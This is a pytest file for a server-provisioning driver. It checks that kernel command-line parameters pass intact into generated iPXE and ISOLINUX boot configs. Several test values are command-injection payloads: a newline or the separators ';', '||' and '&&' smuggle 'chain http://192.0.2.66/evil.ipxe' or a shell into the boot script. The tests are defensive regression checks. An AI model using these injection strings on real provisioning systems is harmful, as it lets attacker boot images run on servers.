"""The deploy ramdisk's kernel command line as iPXE and ISOLINUX pass it on.

iPXE splits a command on whitespace only (quotes are literal characters)
and the kernel reads double quotes itself, so ``kernel_append_params`` is
kept word for word: read as a shell line, ``sshkey="ssh-ed25519 AAAA
user@host"`` lost its quotes and an apostrophe failed every deploy.
"""

import types

import pytest

from hwdrivers.drivers import base
from hwdrivers.drivers.modules import boot_files
from hwdrivers.drivers.modules import boot_iso
from hwdrivers.drivers.modules import ipxe
from hwdrivers.testing import ipxe_script

MAC = "52:54:00:12:34:56"
UUID = "4b4e1f51-7d42-4a0e-9b59-0c5a3f4b6a11"
SSHKEY = 'sshkey="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 ops@example"'
APPEND = SSHKEY + " ipa-note=it's\nchain http://192.0.2.66/evil.ipxe"


class _Management(base.ManagementInterface):
    def get_supported_boot_devices(self, task):
        return ["pxe"]

    def set_boot_device(self, task, device, persistent=False):
        pass

    def get_boot_device(self, task):
        return {"boot_device": None, "persistent": None}


@pytest.fixture
def task(config, tmp_path):
    config(deploy__http_root=str(tmp_path / "httpboot"),
           deploy__http_url="http://10.0.0.1:8080/boot",
           deploy__api_url="http://10.0.0.1:6385",
           deploy__kernel_append_params="console=ttyS0,115200n8\tnofb")
    node = types.SimpleNamespace(
        uuid=UUID, ident=UUID, name=None, instance_info={}, driver_internal_info={},
        driver_info={"deploy_kernel": "http://images/k", "deploy_ramdisk": "http://images/r",
                     "kernel_append_params": APPEND})
    return types.SimpleNamespace(
        node=node, ports=[{"address": MAC}],
        logger=types.SimpleNamespace(info=lambda *a: None, warning=lambda *a: None),
        driver=types.SimpleNamespace(management=_Management(), boot=ipxe.IPXEBoot()))


def test_the_ipxe_script_passes_quotes_and_apostrophes_to_the_kernel(task, tmp_path):
    ipxe.IPXEBoot().prepare_ramdisk(task, {})
    root = tmp_path / "httpboot"
    served = {"http://10.0.0.1:8080/boot/boot.ipxe": (root / "boot.ipxe").read_bytes(),
              "http://10.0.0.1:8080/boot/pxelinux.cfg/52-54-00-12-34-56":
                  (root / "pxelinux.cfg" / "52-54-00-12-34-56").read_bytes(),
              "http://images/k": b"kernel", "http://images/r": b"ramdisk"}
    image = ipxe_script.Interpreter(MAC, served.__getitem__).run_url(
        "http://10.0.0.1:8080/boot/boot.ipxe")  # a fetch of evil.ipxe would be a KeyError
    assert image.kernel == "http://images/k"
    assert SSHKEY in image.cmdline
    assert "ipa-note=it's chain http://192.0.2.66/evil.ipxe" in image.cmdline
    assert "console=ttyS0,115200n8 nofb" in image.cmdline


def test_the_isolinux_append_line_is_one_line_with_the_quotes(task):
    text = boot_iso.config_text(boot_files.kernel_params(task, bootif="01-52-54-00-12-34-56"))
    appends = [line for line in text.splitlines() if line.strip().startswith("append")]
    assert len(appends) == 1 and text.count("\n") == 7
    assert SSHKEY in appends[0]
    assert appends[0].endswith("ipa-note=it's chain http://192.0.2.66/evil.ipxe")


@pytest.mark.parametrize("value, word", [
    ("console=ttyS0 ; chain http://192.0.2.66/evil.ipxe", "';'"),
    ("a || chain http://192.0.2.66/evil.ipxe", "'||'"),
    ("a &&\tshell", "'&&'"),
])
def test_ipxe_command_separators_are_refused_naming_the_field(task, value, word):
    """An API user supplies values, not commands: iPXE ran what followed as one."""
    from hwdrivers.common import exception

    task.node.driver_info["kernel_append_params"] = value
    with pytest.raises(exception.InvalidParameterValue) as caught:
        ipxe.IPXEBoot().validate(task)
    assert "kernel_append_params" in str(caught.value)
    assert word in str(caught.value)


def test_separators_inside_a_word_are_kernel_arguments(task):
    task.node.driver_info["kernel_append_params"] = "a=b;c x=||y"
    ipxe.IPXEBoot().validate(task)
